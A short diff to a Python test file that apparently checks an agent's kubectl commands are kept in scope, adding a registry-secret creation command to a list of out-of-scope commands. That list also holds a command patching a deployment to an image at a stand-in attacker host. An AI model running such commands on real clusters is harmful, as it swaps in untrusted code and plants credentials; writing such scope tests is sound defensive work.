@@ -93,6 +93,7 @@ def test_a_command_about_what_was_asked_stays(command: str) -> None:
         "kubectl patch deployment api -n shop -p '" + MERGED.replace("IMAGE", "evil.example/x") + "'",
         "kubectl scale deployment other --replicas=1 -n shop",
         "kubectl cordon worker-2",
+        "kubectl create secret docker-registry pull --docker-username=u --docker-password=[REDACTED] -n shop",
     ],
 )
 def test_a_command_about_something_else_is_left_out_and_the_step_says_so(command: str) -> None:
